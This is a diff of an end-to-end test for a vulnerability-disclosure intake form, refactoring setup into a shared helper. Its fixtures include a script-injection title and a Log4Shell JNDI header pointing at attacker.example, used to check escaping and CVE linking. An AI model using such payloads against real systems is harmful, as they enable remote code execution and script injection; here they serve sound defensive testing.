@@ -1,12 +1,8 @@
-import { mkdirSync } from 'node:fs';
-import { join } from 'node:path';
-import { fileURLToPath } from 'node:url';
 import type { Page } from 'playwright-core';
-import { afterAll, beforeAll, describe, expect, it, onTestFailed } from 'vitest';
-import { loadDemo } from '../../src/modules/demo/demo.js';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { startE2e, type E2eSession } from '../support/e2e.js';
 import { startMailSink, type MailSink } from '../../src/modules/notifications/test-receivers.js';
-import { launchPage, type BrowserPage } from '../support/browser.js';
-import { startTestVigil, type TestVigil } from '../support/vigil.js';
+import type { TestVigil } from '../support/vigil.js';
 
 /**
  * Issue 8's intake path through the real browser, on the demo data: a researcher, not signed
@@ -16,44 +12,32 @@ import { startTestVigil, type TestVigil } from '../support/vigil.js';
  * arrives at a local SMTP server this test starts, with the title escaped in its HTML part —
  * links the demo Log4Shell finding on the CardioWatch 4.6.0 gateway and moves the case to triaged.
  */
-const ARTIFACTS = fileURLToPath(new URL('../../test-results/e2e/', import.meta.url));
 const TITLE = '<script>window.__cvdXss = 1</script>Gateway logs HL7 fields unescaped';
 const REPORTER = 'researcher@lab.example';
 const ATTACHMENT = Buffer.from('GET /hl7 HTTP/1.1\r\nX-Api-Version: ${jndi:ldap://attacker.example/a}\r\n\r\n');
 
 describe('coordinated disclosure intake', () => {
+  let e2e: E2eSession;
   let tv: TestVigil;
   let mail: MailSink;
   let base: string;
-  let browser: BrowserPage | undefined;
   let page: Page;
   let analyst = { email: '', password: '' };
   let caseId = '';
-  const pageErrors: string[] = [];
 
   beforeAll(async () => {
     mail = await startMailSink();
-    tv = await startTestVigil({ smtp: { url: mail.url, from: 'Acme PSIRT <psirt@acme.example>' } });
-    const demo = await loadDemo(tv.db, null);
-    analyst = demo.users.find((u) => u.email === 'analyst@acme.example')!;
-    base = (await tv.app.listen({ host: '127.0.0.1', port: 0 })).replace('localhost', '127.0.0.1');
-    browser = await launchPage(1440, 900);
-    page = browser.page;
-    page.on('pageerror', (error) => pageErrors.push(String(error)));
+    e2e = await startE2e('cvd', { config: { smtp: { url: mail.url, from: 'Acme PSIRT <psirt@acme.example>' } }, demo: true, viewport: { width: 1440, height: 900 } });
+    ({ tv, base, page } = e2e);
+    analyst = e2e.demo!.users.find((u) => u.email === 'analyst@acme.example')!;
   });
 
   afterAll(async () => {
-    await browser?.close().catch(() => undefined);
-    await tv?.close();
+    await e2e?.close();
     await mail?.close();
   });
 
-  function screenshotOnFailure(name: string): void {
-    onTestFailed(async () => {
-      mkdirSync(ARTIFACTS, { recursive: true });
-      await page.screenshot({ path: join(ARTIFACTS, `cvd-${name}.png`), fullPage: true }).catch(() => undefined);
-    });
-  }
+  const screenshotOnFailure = (name: string) => e2e.screenshotOnFailure(name);
 
   it('a researcher reports through the public form without an account and gets the case reference', async () => {
     screenshotOnFailure('report');
@@ -140,6 +124,6 @@ describe('coordinated disclosure intake', () => {
     expect(linked).toEqual([{ vuln_id: 'CVE-2021-44228', component_version: '2.14.1', version: '4.6.0' }]);
     const events = await tv.db.selectFrom('cvd_case_events').select('kind').where('case_id', '=', caseId).orderBy('at').orderBy('id').execute();
     expect(events.map((e) => e.kind)).toEqual(['received', 'message', 'transition', 'link', 'transition']);
-    expect(pageErrors).toEqual([]);
+    expect(e2e.pageErrors).toEqual([]);
   });
 });
